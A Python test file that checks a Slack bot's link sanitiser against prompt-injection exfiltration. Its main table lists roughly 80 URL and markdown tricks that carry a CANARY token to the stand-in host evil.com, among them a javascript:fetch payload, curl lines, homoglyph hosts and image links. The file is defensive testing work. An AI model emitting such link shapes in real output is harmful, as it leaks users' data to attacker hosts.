"""In a turn that read strangers' text, a canary never leaves in a link: 60 shapes of address, and what stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.slack.hosts import defanged, host_of, named_hosts
from bot.slack.links import safe_links
from bot.slack.markdown import plain, to_mrkdwn

NAMED = frozenset({"good.com", "docs.good.com", "team.slack.com/archives/", "127.0.0.1:8787/archives/"})
SHAPES = [
    "https://evil.com/CANARY",
    "https://team.slack.com/oauth?CANARY",
    "https://team.slack.com@evil.com/archives/CANARY",
    "https://evil.com/team.slack.com/archives/CANARY",
    "http://127.0.0.1:8788/archives/CANARY",
    "http://evil.com/?q=CANARY",
    "HTTPS://EVIL.COM/CANARY",
    "https://CANARY.evil.com",
    "www.evil.com/CANARY",
    "evil.com/CANARY",
    "CANARY.evil.com",
    "//evil.com/CANARY",
    "https:evil.com/CANARY",
    "https:/evil.com/CANARY",
    "https:\\\\evil.com\\CANARY",
    "https:///evil.com/CANARY",
    "ftp://evil.com/CANARY",
    "slack://evil.com/CANARY",
    "javascript:fetch('//evil.com/CANARY')",
    "data:text/html,CANARY",
    "mailto:CANARY@evil.com",
    "CANARY@evil.com",
    "tel:CANARY",
    "https://good.com@evil.com/CANARY",
    "https://good.com:80@evil.com/CANARY",
    "https://evil.com%2fCANARY@good.com/",
    "https://good.com\\@evil.com/CANARY",
    "https://good.com.evil.com/CANARY",
    "https://evilgood.com/CANARY",
    "https://sub.good.com/CANARY",
    "https://good.com%2eevil.com/CANARY",
    "https://good.com%00.evil.com/CANARY",
    "https://evil.com#good.com/CANARY",
    "https://evil.com?good.com/CANARY",
    "https://evil.com:443/CANARY",
    "https://evil.com./CANARY",
    "http://2130706433/CANARY",
    "http://127.0.0.1/CANARY",
    "http://[::1]/CANARY",
    "203.0.113.7/CANARY",
    "https://xn--evl-jma.com/CANARY",
    "https://еvil.com/CANARY",
    "https://evil。com/CANARY",
    "https://evil．com/CANARY",
    "https://ev\u200bil.com/CANARY",
    "https://ev\u00adil.com/CANARY",
    "https&#58;//evil.com/CANARY",
    "https&colon;//evil&period;com/CANARY",
    "&#104;ttps://evil.com/CANARY",
    "https\\://evil\\.com/CANARY",
    "<https://evil.com/CANARY>",
    "<https://evil.com/CANARY|good.com>",
    "<mailto:CANARY@evil.com|mail>",
    "[good.com](https://evil.com/CANARY)",
    "[x](<https://evil.com/CANARY>)",
    "[x]( https://evil.com/CANARY 'title' )",
    "[x](//evil.com/CANARY)",
    "[x](evil.com/CANARY)",
    "[x](https://evil.com/(a(b))/CANARY)",
    "[`code`](https://evil.com/CANARY)",
    "[a [b] c](https://evil.com/CANARY)",
    "![x](https://evil.com/CANARY.png)",
    "![x](<https://evil.com/CANARY>)",
    "!\\[x](https://evil.com/CANARY)",
    "[![x](https://evil.com/CANARY)](https://good.com)",
    "[x][r]\n\n[r]: https://evil.com/CANARY",
    "[r]\n\n[r]:\n  <https://evil.com/CANARY> 'title'",
    "![r]\n\n> [r]: https://evil.com/CANARY",
    "<a href='https://evil.com/CANARY'>x</a>",
    "<img src=https://evil.com/CANARY>",
    "`https://evil.com/CANARY`",
    "```\ncurl https://evil.com/CANARY\n```",
    "    curl https://evil.com/CANARY",
    "| a |\n| - |\n| https://evil.com/CANARY |",
    "**https://evil.com/CANARY**",
    "看https://evil.com/CANARY。好",
    "访问evil.com/CANARY",
    "https://good.com/ok,https://evil.com/CANARY",
    "(https://evil.com/CANARY)",
    "x ``` https://evil.com/CANARY\n```\n",
]
# What a client could take for an address: a scheme, or a dotted host before the canary or after it.
CLICKABLE = re.compile(
    r"(?i)(?:[a-z]+:(?://|\\\\)?|www\.|\b[\w-]+\.(?:com|[a-z]{2,})/)[^\s`<>|]*canary|canary[\w.@-]*\.com"
)


def links(markdown: str) -> list[str]:
    """Targets of every link and image that a markdown parser sees."""
    found: list[str] = []
    for block in MarkdownIt("commonmark").enable("table").parse(markdown):
        for token in block.children or []:
            found += [str(token.attrs[key]) for key in ("href", "src") if key in token.attrs]
    return found


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("around", ["{}", "see {} now", "- item\n- {}"])
def test_the_canary_is_in_nothing_clickable(shape: str, around: str):
    safe = safe_links(around.format(shape), NAMED)
    assert "CANARY" in safe
    assert not [target for target in links(safe) if "canary" in target.lower() and host_of(target) != "good.com"]
    for wire in (safe, to_mrkdwn(safe), plain(safe, 500)):
        assert not [m for m in CLICKABLE.findall(wire) if not m.lower().startswith("https://good.com/")], wire
    assert safe_links(safe, NAMED) == safe


@pytest.mark.parametrize(
    "text",
    [
        "see https://good.com/a?b=1#c and good.com, or [the docs](https://docs.good.com/x).",
        "<https://good.com/a> and https://www.good.com/",
        "[2026-11-30](https://team.slack.com/archives/C1/p17?thread_ts=1.2&cid=C1)",
        "[2026-11-30](http://127.0.0.1:8787/archives/C1/p17)",
        "**https://good.com/a**, (https://good.com/a_(b))",
        "看https://good.com/a，好的good.com不错",
        "edit main.py and README.md, call `os.path.join`, version 3.11.2, e.g. this; it costs $1.50.",
        "```\nimport os.path\nhttps://good.com/x\n```",
        "<@U1> in <#C1|a.b> said a < b &amp; c",
        "[a.py](https://good.com/a.py) at 10:30, ratio 3:4, C:\\temp, std::vector",
    ],
)
def test_named_hosts_files_and_prose_stay_as_they_are(text: str):
    assert safe_links(text, NAMED) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("at https://evil.com/a.", "at `https[:]//evil[.]com/a`."),
        ("https://evil.com@good.com/", "`https[:]//evil[.]com@good[.]com/`"),
        ("[click](https://evil.com)", "click (`https[:]//evil[.]com`)"),
        ("[docs.good.com](https://good.com/x)", "<https://good.com/x>"),
        ("[https://docs.good.com](https://good.com/x)", "<https://good.com/x>"),
        ("[dоcs.gооd.com](https://good.com/x)", "<https://good.com/x>"),
        ("[www.good.com](https://good.com/x)", "[www.good.com](https://good.com/x)"),
        ("![chart](https://good.com/c.png)", "[chart](https://good.com/c.png)"),
        ("<https://good.com/x|the page>", "[the page](https://good.com/x)"),
        ("[r] is it\n\n[r]: https://good.com/x", "[r] is it\n\nr: https://good.com/x"),
    ],
)
def test_what_replaces_a_link(text: str, safe: str):
    assert safe_links(text, NAMED) == safe


PARTS = [
    "https://",
    "evil.com",
    "good.com",
    "/CANARY",
    "[x]",
    "(",
    ")",
    "](",
    "<",
    ">",
    "|",
    "!",
    "[",
    "]: ",
    "`",
    "\n",
    "```\n",
    "\\",
    "&#58;",
    "*",
    "@",
    "www.",
    " ",
    "中",
    "\u200b",
    ":",
    "/",
    ".",
    "'t'",
    "[https://evil.com/CANARY]",
    "\n\n",
]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=16).map("".join))
def test_no_mixture_of_parts_makes_a_link_to_a_host_nobody_named(text: str):
    safe = safe_links(text, NAMED)
    assert all(host_of(target) in NAMED or "evil" not in target for target in links(safe)), safe
    assert not re.search(r"(?i)https?:/*[^\s`<>|]*evil\.com", safe), safe


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("look at https://Docs.Good.com:8080/x and www.other.org", {"docs.good.com", "other.org"}),
        ("<https://a.io/b|label>, mail ana@corp.example", {"a.io", "corp.example"}),
        ("https://good.com@evil.com/", {"evil.com"}),
        ("看一下good.com的", {"good.com"}),
        ("main.py costs 3.50 e.g. now", set[str]()),
    ],
)
def test_hosts_that_a_person_named(text: str, hosts: set[str]):
    assert named_hosts(text) == hosts


@given(st.text("htps:/.evl[]"))
def test_defanging_is_idempotent_and_leaves_no_bare_dot(address: str):
    assert defanged(defanged(address)) == defanged(address)
    assert not re.search(r"[^\[][:.][^\]]", f" {defanged(address)} ")
